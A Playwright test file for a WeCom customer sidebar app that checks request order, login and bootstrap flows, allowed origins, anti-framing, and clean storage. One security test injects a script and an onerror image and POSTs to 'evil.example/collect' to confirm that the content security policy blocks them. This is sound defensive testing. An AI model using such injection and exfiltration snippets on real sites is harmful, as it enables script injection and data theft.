import type { Page, Request } from '@playwright/test';
import { spruce } from '../support/client.js';
import { expect, journey } from '../support/journey.js';
import { sidebarUrl } from '../support/plights.js';

/** The opening is the product: what is asked for, in which order, and from whom. */
journey.describe('the opening', () => {
  journey('of a proved web view costs one document, and then the card alone', async ({ client, page }) => {
    await client.open();
    await client.showsCardOf('wmLinXiaoyu');
    const asked = record(page, (request) => request.frame() !== page.mainFrame());

    await client.chooseChat('wmHuangLi');
    await client.showsCardOf('wmHuangLi');

    expect(pathsOf(asked)).toEqual(['/s/wwspruce0a1b2c3d4e/1000002', '/api/customers/wmHuangLi/card']);
  });

  journey('asks for the bootstrap again once the last one is ten minutes old', async ({ client, page }) => {
    await client.open();
    await client.showsCardOf('wmLinXiaoyu');
    await page.clock.install();
    await page.clock.fastForward('10:01');
    const asked = record(page, (request) => request.frame() !== page.mainFrame());

    await client.chooseChat('wmHuangLi');
    await client.showsCardOf('wmHuangLi');

    expect(pathsOf(asked)).toEqual([
      '/s/wwspruce0a1b2c3d4e/1000002',
      '/api/bootstrap',
      '/api/customers/wmHuangLi/card',
    ]);
  });

  journey(
    'renews a signature of the kept bootstrap that the client refuses, once',
    async ({ client, faults, page }) => {
      await client.open();
      await client.showsCardOf('wmLinXiaoyu');
      await faults.switchOn({ kind: 'killTicket', corpId: spruce, agentId: 1000002 });
      const asked = record(page, (request) => request.frame() !== page.mainFrame());

      await client.chooseChat('wmHuangLi');
      await client.showsCardOf('wmHuangLi');
      await client.chooseChat('woChenYu');
      await client.showsCardOf('woChenYu');

      expect(pathsOf(asked)).toEqual([
        '/s/wwspruce0a1b2c3d4e/1000002',
        '/api/bootstrap',
        '/api/customers/wmHuangLi/card',
        '/s/wwspruce0a1b2c3d4e/1000002',
        '/api/customers/woChenYu/card',
      ]);
    },
  );

  journey(
    'of a new web view leaves for the login from a page that never begins, and boots once',
    async ({ client, page }) => {
      // Counted where it happens: documents that come to their end, and pages that are drawn.
      const events: string[] = [];
      await page.exposeFunction('noteEvent', (event: string) => events.push(event));
      await page.addInitScript(() => {
        if (!location.pathname.startsWith('/s/')) return;
        const note = (event: string) => Reflect.get(window, 'noteEvent')(event);
        document.addEventListener('DOMContentLoaded', () => note('document loaded'));
        new MutationObserver((_changes, observer) => {
          if (!document.querySelector('#app > *')) return;
          observer.disconnect();
          note('page booted');
        }).observe(document, { childList: true, subtree: true });
      });
      page.on('request', (request) => {
        const { pathname } = new URL(request.url());
        if (/^\/api\/(auth|bootstrap|customers)/.test(pathname) && !isListening(request))
          events.push(pathname);
      });
      await client.open();
      await client.showsCardOf('wmLinXiaoyu');

      expect(events.filter((event) => event.startsWith('/api/'))).toEqual([
        '/api/auth/start',
        '/api/auth/callback/wwspruce0a1b2c3d4e/1000002',
        '/api/bootstrap',
        '/api/customers/wmLinXiaoyu/card',
      ]);
      // Both after the login: the page from which it leaves does neither.
      const afterLogin = events.slice(events.indexOf('/api/auth/callback/wwspruce0a1b2c3d4e/1000002'));
      for (const [which, all] of [
        ['document loaded', events],
        ['page booted', events],
        ['document loaded', afterLogin],
        ['page booted', afterLogin],
      ] as const)
        expect(all.filter((event) => event === which)).toEqual([which]);
    },
  );

  journey('of a web view whose page stays open costs the card alone', async ({ client, page }) => {
    await client.open();
    await client.showsCardOf('wmLinXiaoyu');
    await client.onChatChange('keep');
    const asked = record(page, (request) => request.url().includes('/api/'));

    await client.chooseChat('wmHuangLi');
    await client.showsCardOf('wmHuangLi');

    // The one it listens to instead of asking is begun when the card is there.
    await expect
      .poll(() => asked.map((request) => new URL(request.url()).pathname))
      .toEqual(['/api/customers/wmHuangLi/card', '/api/customers/wmHuangLi/live']);
  });

  journey('asks for each page and panel once, when it is opened', async ({ client, page }) => {
    const asked = record(page, (request) => request.frame() !== page.mainFrame());
    /** What has been asked of our API since the last time. */
    const news = () =>
      pathsOf(asked.splice(0)).filter((path) => path.startsWith('/api/') && !path.startsWith('/api/auth/'));
    const files: string[] = [];
    page.on('request', (request) => {
      // The page that left for the login has begun to load, too.
      if (request.url().includes('/api/auth/callback/')) files.length = 0;
      if (request.url().includes('/assets/')) files.push(request.url());
    });
    await client.open();
    await client.showsCardOf('wmLinXiaoyu');
    await expect(client.card.getByTestId('timeline')).toBeVisible();
    expect(news()).toEqual(['/api/bootstrap', '/api/customers/wmLinXiaoyu/card']);
    // With the focus, the page asks whose chat it is.
    await page.getByTestId('scheme').focus();
    await client.bringFocusTo('wmLinXiaoyu');
    news();

    await client.card.getByTestId('open-timeline').click();
    await expect(client.card.getByTestId('timeline-entries')).toContainText('订单');
    expect(news()).toEqual(['/api/customers/wmLinXiaoyu/timeline']);

    await client.sidebar.getByTestId('page-find').click();
    await expect(client.sidebar.getByTestId('customer-wmHuangLi')).toBeVisible();
    expect(news()).toEqual(['/api/customers/find']);

    await client.sidebar.getByTestId('page-chat').click();
    await expect(client.card.getByTestId('timeline-entries')).toBeVisible();
    expect(news()).toEqual([]);
    expect(files.length).toBeGreaterThan(2);
    expect(files).toEqual([...new Set(files)]);
  });

  journey(
    'asks nobody but its own origin, and WeCom for the login and the pictures',
    async ({ client, page }) => {
      const asked = record(page, (request) => request.frame() !== page.mainFrame());
      await client.open();
      await client.showsCardOf('wmLinXiaoyu');
      await client.showsPictures();

      const own = new URL(client.sidebarFrame().url()).origin;
      const elsewhere = asked
        .filter((request) => new URL(request.url()).origin !== own)
        .map((request) => `${request.resourceType()} ${new URL(request.url()).pathname.split('/')[1]}`);
      expect(asked.length - elsewhere.length).toBeGreaterThan(5);
      expect([...new Set(elsewhere)].toSorted()).toEqual(['document connect', 'image avatars']);
    },
  );

  journey(
    'runs nothing and asks nobody that is not ours, whatever is written into it',
    async ({ client }) => {
      await client.open();
      await client.showsCardOf('wmLinXiaoyu');
      const frame = client.sidebarFrame();

      const refused = await frame.evaluate(async () => {
        const violated: string[] = [];
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          violated.push(effectiveDirective),
        );
        const script = document.createElement('script');
        script.textContent = 'window.injected = true;';
        document.body.append(script);
        const image = document.createElement('img');
        image.setAttribute('onerror', 'window.injected = true');
        image.src = 'https://evil.example/pixel.png';
        document.body.append(image);
        await fetch('https://evil.example/collect', { method: 'POST' }).catch(() => undefined);
        await new Promise((resolve) => setTimeout(resolve, 100));
        return { violated, injected: Reflect.get(window, 'injected') };
      });

      expect(refused.injected).toBeUndefined();
      expect(refused.violated).toEqual(
        expect.arrayContaining(['script-src-elem', 'script-src-attr', 'img-src', 'connect-src']),
      );
    },
  );

  journey('can’t be framed by anybody else', async ({ page }) => {
    await page.route('http://127.0.0.1:9/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${sidebarUrl()}"></iframe>` }),
    );
    await page.goto('http://127.0.0.1:9/');

    await expect
      .poll(() => page.frames().map((frame) => frame.url().split(':')[0]))
      .toEqual(['http', 'chrome-error']);
  });

  journey(
    'leaves nothing in the url, nothing in local storage and no error behind',
    async ({ client, page }) => {
      const errors: string[] = [];
      page.on('pageerror', (error) => errors.push(error.message));
      page.on('console', (message) => {
        if (message.type() === 'error') errors.push(message.text());
      });
      await client.open();
      await client.showsCardOf('wmLinXiaoyu');

      const frame = client.sidebarFrame();
      expect(frame.url()).toMatch(/\/s\/wwspruce0a1b2c3d4e\/1000002#?$/);
      expect(await frame.evaluate(() => localStorage.length)).toBe(0);
      expect(await frame.evaluate(() => document.cookie)).toBe('');
      expect(errors).toEqual([]);
    },
  );
});

/** Without the files of the page itself. */
/** What an opening has cost once the card is there. */
function pathsOf(requests: Request[]): string[] {
  return requests
    .filter((request) => !isListening(request))
    .map((request) => new URL(request.url()).pathname)
    .filter((path) => !path.includes('.'));
}

/** It begins when the card is there, and waits for changes. */
function isListening(request: Request): boolean {
  return new URL(request.url()).pathname.endsWith('/live');
}

function record(page: Page, wanted: (request: Request) => boolean): Request[] {
  const asked: Request[] = [];
  page.on('request', (request) => {
    if (wanted(request)) asked.push(request);
  });
  return asked;
}
